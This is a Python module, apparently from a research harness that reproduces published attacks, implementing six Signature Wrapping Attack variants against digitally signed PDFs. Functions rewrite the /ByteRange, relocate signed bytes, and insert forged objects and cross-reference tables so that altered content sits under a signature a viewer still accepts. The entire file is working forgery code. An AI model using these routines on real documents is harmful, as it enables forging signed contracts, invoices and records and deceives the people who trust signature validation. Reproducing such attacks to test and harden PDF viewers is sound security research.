"""SWA: signed bytes are moved aside and others take their place (CCS 2019, §4.3)."""

import re

from attacks import writer
from attacks.incremental import FORGED
from attacks.victim import Victim
from attacks.writer import write_objects, write_table

_RANGE = re.compile(rb"/ByteRange\[0 (\d{10}) (\d{10}) (\d{10})\]")


def parts(pdf: bytes) -> tuple[int, int, int, int]:
    """Return where the hole begins, ends, how long the rest is, and where the range stands."""
    found = _RANGE.search(pdf)
    if found is None:
        message = "no byte range"
        raise ValueError(message)
    start, stop, rest = (int(one) for one in found.groups())
    return start, stop, rest, found.start(1)


def _wrapped(pdf: bytes, between: bytes, *, padding: int) -> bytes:
    """Move the second signed part back and put other bytes in front of it."""
    start, stop, rest, at = parts(pdf)
    gap = b"\n" + between + b"\n" * padding
    moved = pdf[:stop] + gap + pdf[stop : stop + rest]
    return moved[:at] + b"%010d %010d" % (start, stop + len(gap)) + moved[at + 21 :]


def _evil(pdf: bytes, offset: int) -> tuple[bytes, int]:
    """Return forged objects with a table, as they stand at an offset, and where the table is."""
    shift = b" " * offset
    body, places = write_objects(shift, FORGED)
    whole = write_table(body, dict(places), previous=writer.newest_section(pdf))
    return whole[offset:], len(body)


def without_padding(victim: Victim) -> bytes:
    """Variant 1: the forged part stands straight behind the hole, the range names the new place."""
    pdf = victim.led
    between, _ = _evil(pdf, parts(pdf)[1] + 1)
    return _wrapped(pdf, between, padding=0)


def with_padding(victim: Victim) -> bytes:
    """Variant 2: with padding between the forged and the moved part."""
    pdf = victim.led
    between, _ = _evil(pdf, parts(pdf)[1] + 1)
    return _wrapped(pdf, between, padding=512)


def with_end_inside(victim: Victim) -> bytes:
    """Variant 3: the moved part is no more than bytes behind a complete file."""
    pdf = victim.led
    between, table = _evil(pdf, parts(pdf)[1] + 1)
    whole = _wrapped(pdf, between, padding=0)
    return whole + b"startxref\n%d\n%%%%EOF\n" % table


def range_kept(victim: Victim) -> bytes:
    """The forged part replaces signed bytes, which are appended at the end."""
    pdf = victim.led
    start, stop, rest, at = parts(pdf)
    between, _ = _evil(pdf, stop)
    size = max(rest, len(between))
    whole = pdf[:stop] + between.ljust(size) + pdf[stop : stop + rest]
    return whole[:at] + b"%010d %010d" % (start, stop + size) + whole[at + 21 :]


def contents_moved(victim: Victim) -> bytes:
    """/Contents stands behind its hole, which is empty but for forged objects."""
    pdf = victim.led
    start, stop, _, _ = parts(pdf)
    hole = pdf[start:stop]
    between, _ = _evil(pdf, start)
    return pdf[:start] + between.ljust(stop - start) + hole + pdf[stop:]


def second_hole(victim: Victim) -> bytes:
    """The range names three parts, so that two are left out."""
    pdf = victim.led
    start, stop, rest, at = parts(pdf)
    wide = b"/ByteRange[0 %d 500 %d %d %d]" % (400, start - 500, stop, rest)
    return pdf[: at - 13] + wide + pdf[at + 33 :]


ATTACKS = {
    "swa-without-padding": without_padding,
    "swa-with-padding": with_padding,
    "swa-with-end-inside": with_end_inside,
    "swa-range-kept": range_kept,
    "swa-contents-moved": contents_moved,
    "swa-second-hole": second_hole,
}
